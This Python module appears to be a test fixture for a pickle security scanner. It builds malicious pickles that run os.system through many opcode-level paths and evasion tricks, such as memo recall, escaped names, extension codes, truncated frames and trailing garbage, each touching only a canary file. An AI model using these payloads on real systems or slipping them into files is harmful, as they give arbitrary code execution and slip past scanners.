"""Pickles that would leave a mark if they were opened: what attacks are made of. Building one runs nothing."""

from __future__ import annotations

import contextlib
import io
import os
import pickle
import struct
from pathlib import Path
from typing import Any


class Runs:
    """Pickled, it is a call that touches the canary."""

    def __init__(self, canary: Path) -> None:
        self.command = f"touch {canary}"

    def __reduce__(self) -> Any:
        return os.system, (self.command,)


def text(words: str) -> bytes:
    """Opcodes that put a text on the stack."""
    return b"X" + struct.pack("<I", len(words)) + words.encode()


def frame(body: bytes, size: int | None = None) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body) if size is None else size) + body


def _space() -> bytes:
    """An empty object that takes any attribute."""
    return b"ctypes\nSimpleNamespace\n)\x81"


def _given(method: str) -> bytes:
    """An empty object with a method of that name, which is os.system."""
    return _space() + b"}" + text(method) + b"cposix\nsystem\nsb"


def _pushed(do: str) -> dict[str, bytes]:
    return {
        "GLOBAL and REDUCE": b"cos\nsystem\n(" + text(do) + b"tR.",
        "STACK_GLOBAL": b"\x80\x04" + text("os") + text("system") + b"\x93" + text(do) + b"\x85R.",
        "INST": b"(" + text(do) + b"ios\nsystem\n.",
        "OBJ": b"(cos\nsystem\n" + text(do) + b"o.",
        "eval": b"cbuiltins\neval\n" + text(f"__import__('os').system({do!r})") + b"\x85R.",
        "exec of Python 2": b"\x80\x02c__builtin__\nexec\n" + text(f"__import__('os').system({do!r})") + b"\x85R.",
        "getattr": b"cbuiltins\ngetattr\ncimportlib\nimport_module\n" + text("os") + b"\x85R" + text("system")
        + b"\x86R" + text(do) + b"\x85R.",
        "a partial called": b"cfunctools\npartial\ncos\nsystem\n" + text(do) + b"\x86R)R.",
        "a dotted name": b"\x80\x04" + text("logging") + text("os.system") + b"\x93" + text(do) + b"\x85R.",
        "BUILD with __setstate__": _given("__setstate__") + text(do) + b"b.",
        "APPEND to what has append": _given("append") + text(do) + b"a.",
        "ADDITEMS to what has add": b"\x80\x04" + _given("add") + b"(" + text(do) + b"\x90.",
        "a name from the memo": b"\x80\x04" + text("os") + b"\x94" + text("system") + b"\x940" + b"0h\x00h\x01\x93"
        + text(do) + b"\x85R.",
        "a name dropped and recalled": b"(Vos\np7\nVsystem\np9\n1g7\ng9\n\x93" + text(do) + b"\x85R.",
        "a name doubled and cut": text("os") + b"2" + text("junk") + b"00" + text("system") + b"\x93" + text(do)
        + b"\x85R.",
        "a name in escapes": b"S'\\x6f\\163'\nV\\u0073ystem\n\x93" + text(do) + b"\x85R.",
        "a name computed": b"cbuiltins\nstr\n" + text("os") + b"\x85R" + text("system") + b"\x93" + text(do)
        + b"\x85R.",
        "a name computed, no end": b"cbuiltins\nstr\n" + text("os") + b"\x85R" + text("system") + b"\x93" + text(do)
        + b"\x85R",
        "an extension's number": b"\x80\x02\x82\xf0" + text(do) + b"\x85R.",
        "an extension's number, no end": b"\x80\x02\x83\xf0\x00" + text(do) + b"\x85R",
        "a tail that breaks": b"cos\nsystem\n" + text(do) + b"\x85R\xff\xff nonsense",
        "no end": b"cos\nsystem\n" + text(do) + b"\x85R",
        "the second of two": pickle.dumps({"harmless": True}) + b"cos\nsystem\n" + text(do) + b"\x85R.",
        "protocols in between": b"\x80\x04\x80\x02cos\nsystem\n\x80\x03" + text(do) + b"\x80\x01\x85R.",
        "numbers that only C reads": b"I7\x00 of nine\n0I010\n0F1\x00x\n0" + text("os") + b"p1\x00y\n0g1\n"
        + text("system") + b"\x93" + text(do) + b"\x85R.",
        "a frame that cuts a name": b"\x80\x04" + frame(b"csafe_", 6) + b"os\nsystem\n" + text(do) + b"\x85R.",
    }  # fmt: skip


def pickles(canary: Path) -> dict[str, bytes]:
    """Every way into running code that we know of, by name."""
    by_hand = _pushed(f"touch {canary}")
    return by_hand | {f"protocol {number}": pickle.dumps(Runs(canary), number) for number in range(6)}


NAMES = tuple(pickles(Path("/")))


def open_carelessly(data: bytes) -> None:
    """What a program does that trusts everybody. Only for tests that show that an attack is one."""
    for unpickler in (pickle.Unpickler, pickle._Unpickler):  # type: ignore[attr-defined]
        file = io.BytesIO(data)
        with contextlib.suppress(Exception):
            while True:
                unpickler(file).load()
